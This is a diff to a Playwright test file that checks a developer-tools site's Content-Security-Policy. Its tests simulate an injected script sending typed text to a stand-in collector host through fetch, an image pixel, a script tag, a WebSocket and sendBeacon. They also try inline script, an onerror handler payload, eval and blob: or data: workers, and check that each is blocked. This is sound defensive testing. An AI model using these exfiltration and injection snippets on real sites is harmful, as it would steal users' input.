@@ -79,153 +79,138 @@ test.describe('Content-Security-Policy', () => {
     expect(readFileSync('dist/_headers', 'utf8')).toContain(`/*\n  Content-Security-Policy: ${policy}\n`);
   });
 
-  test('the inline theme script runs under the policy', async ({ page }) => {
-    await page.addInitScript(() => localStorage.setItem('theme', 'dark'));
-    await page.goto('/about');
-    await expect(page.locator('html')).toHaveClass(/\bdark\b/);
-    // The fixture fails the test if the script (or anything else) was refused.
-  });
-
-  test('a script injected into the page cannot send anything to another origin', async ({ page, cspViolations }) => {
-    const sockets: string[] = [];
-    page.on('websocket', (ws) => sockets.push(ws.url()));
-    await page.goto('/tools/hash-generator');
-    await page.getByLabel('Text to hash').fill('a secret');
-
-    const outcomes = await page.evaluate(async (elsewhere) => {
-      // The text editor lives in a shadow root; its editable element's value is the whole text.
-      const editor = document.querySelector('[data-text-editor] > div')?.shadowRoot?.querySelector('.cm-content');
-      const secret = encodeURIComponent(editor && 'value' in editor ? String(editor.value) : '');
-      const settle = (start: (done: (outcome: string) => void) => void) =>
-        new Promise<string>((resolve) => {
-          start(resolve);
-          setTimeout(() => resolve('no answer'), 3000);
-        });
-      return {
-        fetch: await fetch(`${elsewhere}/fetch?d=${secret}`, { mode: 'no-cors' }).then(
-          () => 'sent',
-          () => 'blocked',
-        ),
-        image: await settle((done) => {
-          const img = new Image();
-          img.onload = () => done('sent');
-          img.onerror = () => done('blocked');
-          img.src = `${elsewhere}/pixel.gif?d=${secret}`;
-        }),
-        script: await settle((done) => {
-          const script = document.createElement('script');
-          script.onload = () => done('sent');
-          script.onerror = () => done('blocked');
-          script.src = `${elsewhere}/script.js?d=${secret}`;
-          document.head.appendChild(script);
-        }),
-        webSocket: await settle((done) => {
-          try {
-            const ws = new WebSocket(`${elsewhere.replace('https:', 'wss:')}/socket?d=${secret}`);
-            ws.onopen = () => done('sent');
-            ws.onerror = () => done('blocked');
-          } catch {
-            done('blocked');
-          }
-        }),
-        // sendBeacon answers before the policy check; the violation below proves it was refused.
-        beacon: navigator.sendBeacon(`${elsewhere}/beacon`, secret),
-      };
-    }, ELSEWHERE);
-
-    const { beacon: _queued, ...requests } = outcomes;
-    expect(requests).toEqual({ fetch: 'blocked', image: 'blocked', script: 'blocked', webSocket: 'blocked' });
-    // Refused by the browser's policy (not merely failed): each one is a reported violation...
-    await takeViolation(cspViolations, 'connect-src', `${ELSEWHERE}/fetch`);
-    await takeViolation(cspViolations, 'img-src', `${ELSEWHERE}/pixel.gif`);
-    await takeViolation(cspViolations, 'script-src-elem', `${ELSEWHERE}/script.js`);
-    await takeViolation(cspViolations, 'connect-src', 'wss://collector.example.com/socket');
-    await takeViolation(cspViolations, 'connect-src', `${ELSEWHERE}/beacon`);
-    // ...and no request or socket ever left (the fixture also fails on any request to another origin).
-    expect(sockets).toEqual([]);
-  });
-
-  test('injected inline code does not run: no inline script, event handler or eval', async ({
+  test("on a tool page, neither an injected script nor the tool's worker can reach another origin or run inline, evaluated or blob: code", async ({
     page,
     cspViolations,
   }) => {
-    await page.goto('/');
-    const ran = await page.evaluate(async () => {
-      const w = window as unknown as { pwned?: string[] };
-      w.pwned = [];
-      const script = document.createElement('script');
-      script.textContent = 'window.pwned.push("inline script")';
-      document.body.appendChild(script);
-      const div = document.createElement('div');
-      div.innerHTML = '<img src="data:," onerror="window.pwned.push(\'event handler\')">';
-      document.body.appendChild(div);
-      // Later, in a task of the page's own (code run by page.evaluate itself may always eval).
-      setTimeout(() => {
-        try {
-          window.eval('window.pwned.push("eval")');
-        } catch {
-          // refused
-        }
-      });
-      await new Promise((resolve) => setTimeout(resolve, 200));
-      return w.pwned;
-    });
-    expect(ran).toEqual([]);
-    await takeViolation(cspViolations, 'script-src-elem', 'inline');
-    await takeViolation(cspViolations, 'script-src-attr', 'inline');
-    await takeViolation(cspViolations, 'script-src', 'eval');
-  });
-
-  test('an injected script cannot start a worker from a blob: or data: URL', async ({ page, cspViolations }) => {
-    await page.goto('/');
-    const outcomes = await page.evaluate(() => {
-      const start = (url: string) =>
-        new Promise<string>((resolve) => {
-          const worker = new Worker(url);
-          worker.onmessage = () => resolve('started');
-          worker.onerror = () => resolve('blocked');
-          setTimeout(() => resolve('no answer'), 3000);
-        });
-      return Promise.all([
-        start(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),
-        start('data:text/javascript,postMessage(1)'),
-      ]);
-    });
-    expect(outcomes).toEqual(['blocked', 'blocked']);
-    await takeViolation(cspViolations, 'worker-src', 'blob');
-    await takeViolation(cspViolations, 'worker-src', 'data');
-  });
-
-  test("a tool's worker cannot reach another origin either", async ({ page }) => {
+    const sockets: string[] = [];
+    page.on('websocket', (ws) => sockets.push(ws.url()));
     await page.goto('/tools/hash-generator');
-    const workerStarted = page.waitForEvent('worker');
-    await page.getByLabel('Text to hash').fill('abc');
-    const worker = await workerStarted;
-    await expect(page.getByTestId('digest-md5')).toHaveValue('900150983cd24fb0d6963f7d28e17f72');
-    const outcome = await worker.evaluate(
-      (elsewhere) =>
-        new Promise<string[]>((resolve) => {
-          const seen: string[] = [];
-          self.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
-          fetch(`${elsewhere}/from-worker`, { mode: 'no-cors' }).then(
-            () => resolve(['sent', ...seen]),
-            () => setTimeout(() => resolve(['blocked', ...seen]), 100),
-          );
-        }),
-      ELSEWHERE,
-    );
-    expect(outcome).toHaveLength(2);
-    expect(outcome[0]).toBe('blocked');
-    expect(outcome[1]).toMatch(new RegExp(`^connect-src ${ELSEWHERE}/from-worker`));
-  });
 
-  test("the support form's mail hand-off works under the policy", async ({ page }) => {
-    await page.goto('/support');
-    const form = page.getByRole('form', { name: 'Contact form' });
-    const values = { Name: 'Ada', Email: 'ada@example.com', Subject: 'Hi', Message: 'Under the policy' };
-    for (const [label, value] of Object.entries(values)) await form.getByLabel(label, { exact: true }).fill(value);
-    await form.getByRole('button', { name: 'Send Message' }).click();
-    await expect(page.getByRole('status')).toContainText('support@devtoolbox.dev');
-    // The real mailto: link click ran (no stub); the fixture fails the test on any violation.
+    await test.step("a tool's worker cannot reach another origin either", async () => {
+      const workerStarted = page.waitForEvent('worker');
+      await page.getByLabel('Text to hash').fill('abc');
+      const worker = await workerStarted;
+      await expect(page.getByTestId('digest-md5')).toHaveValue('900150983cd24fb0d6963f7d28e17f72');
+      const outcome = await worker.evaluate(
+        (elsewhere) =>
+          new Promise<string[]>((resolve) => {
+            const seen: string[] = [];
+            self.addEventListener('securitypolicyviolation', (e) =>
+              seen.push(`${e.effectiveDirective} ${e.blockedURI}`),
+            );
+            fetch(`${elsewhere}/from-worker`, { mode: 'no-cors' }).then(
+              () => resolve(['sent', ...seen]),
+              () => setTimeout(() => resolve(['blocked', ...seen]), 100),
+            );
+          }),
+        ELSEWHERE,
+      );
+      expect(outcome).toHaveLength(2);
+      expect(outcome[0]).toBe('blocked');
+      expect(outcome[1]).toMatch(new RegExp(`^connect-src ${ELSEWHERE}/from-worker`));
+    });
+
+    await test.step('a script injected into the page cannot send anything to another origin', async () => {
+      await page.getByLabel('Text to hash').fill('a secret');
+
+      const outcomes = await page.evaluate(async (elsewhere) => {
+        // The text editor lives in a shadow root; its editable element's value is the whole text.
+        const editor = document.querySelector('[data-text-editor] > div')?.shadowRoot?.querySelector('.cm-content');
+        const secret = encodeURIComponent(editor && 'value' in editor ? String(editor.value) : '');
+        const settle = (start: (done: (outcome: string) => void) => void) =>
+          new Promise<string>((resolve) => {
+            start(resolve);
+            setTimeout(() => resolve('no answer'), 3000);
+          });
+        return {
+          fetch: await fetch(`${elsewhere}/fetch?d=${secret}`, { mode: 'no-cors' }).then(
+            () => 'sent',
+            () => 'blocked',
+          ),
+          image: await settle((done) => {
+            const img = new Image();
+            img.onload = () => done('sent');
+            img.onerror = () => done('blocked');
+            img.src = `${elsewhere}/pixel.gif?d=${secret}`;
+          }),
+          script: await settle((done) => {
+            const script = document.createElement('script');
+            script.onload = () => done('sent');
+            script.onerror = () => done('blocked');
+            script.src = `${elsewhere}/script.js?d=${secret}`;
+            document.head.appendChild(script);
+          }),
+          webSocket: await settle((done) => {
+            try {
+              const ws = new WebSocket(`${elsewhere.replace('https:', 'wss:')}/socket?d=${secret}`);
+              ws.onopen = () => done('sent');
+              ws.onerror = () => done('blocked');
+            } catch {
+              done('blocked');
+            }
+          }),
+          // sendBeacon answers before the policy check; the violation below proves it was refused.
+          beacon: navigator.sendBeacon(`${elsewhere}/beacon`, secret),
+        };
+      }, ELSEWHERE);
+
+      const { beacon: _queued, ...requests } = outcomes;
+      expect(requests).toEqual({ fetch: 'blocked', image: 'blocked', script: 'blocked', webSocket: 'blocked' });
+      // Refused by the browser's policy (not merely failed): each one is a reported violation...
+      await takeViolation(cspViolations, 'connect-src', `${ELSEWHERE}/fetch`);
+      await takeViolation(cspViolations, 'img-src', `${ELSEWHERE}/pixel.gif`);
+      await takeViolation(cspViolations, 'script-src-elem', `${ELSEWHERE}/script.js`);
+      await takeViolation(cspViolations, 'connect-src', 'wss://collector.example.com/socket');
+      await takeViolation(cspViolations, 'connect-src', `${ELSEWHERE}/beacon`);
+      // ...and no request or socket ever left (the fixture also fails on any request to another origin).
+      expect(sockets).toEqual([]);
+    });
+
+    await test.step('injected inline code does not run: no inline script, event handler or eval', async () => {
+      const ran = await page.evaluate(async () => {
+        const w = window as unknown as { pwned?: string[] };
+        w.pwned = [];
+        const script = document.createElement('script');
+        script.textContent = 'window.pwned.push("inline script")';
+        document.body.appendChild(script);
+        const div = document.createElement('div');
+        div.innerHTML = '<img src="data:," onerror="window.pwned.push(\'event handler\')">';
+        document.body.appendChild(div);
+        // Later, in a task of the page's own (code run by page.evaluate itself may always eval).
+        setTimeout(() => {
+          try {
+            window.eval('window.pwned.push("eval")');
+          } catch {
+            // refused
+          }
+        });
+        await new Promise((resolve) => setTimeout(resolve, 200));
+        return w.pwned;
+      });
+      expect(ran).toEqual([]);
+      await takeViolation(cspViolations, 'script-src-elem', 'inline');
+      await takeViolation(cspViolations, 'script-src-attr', 'inline');
+      await takeViolation(cspViolations, 'script-src', 'eval');
+    });
+
+    await test.step('an injected script cannot start a worker from a blob: or data: URL', async () => {
+      const outcomes = await page.evaluate(() => {
+        const start = (url: string) =>
+          new Promise<string>((resolve) => {
+            const worker = new Worker(url);
+            worker.onmessage = () => resolve('started');
+            worker.onerror = () => resolve('blocked');
+            setTimeout(() => resolve('no answer'), 3000);
+          });
+        return Promise.all([
+          start(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),
+          start('data:text/javascript,postMessage(1)'),
+        ]);
+      });
+      expect(outcomes).toEqual(['blocked', 'blocked']);
+      await takeViolation(cspViolations, 'worker-src', 'blob');
+      await takeViolation(cspViolations, 'worker-src', 'data');
+    });
   });
 });
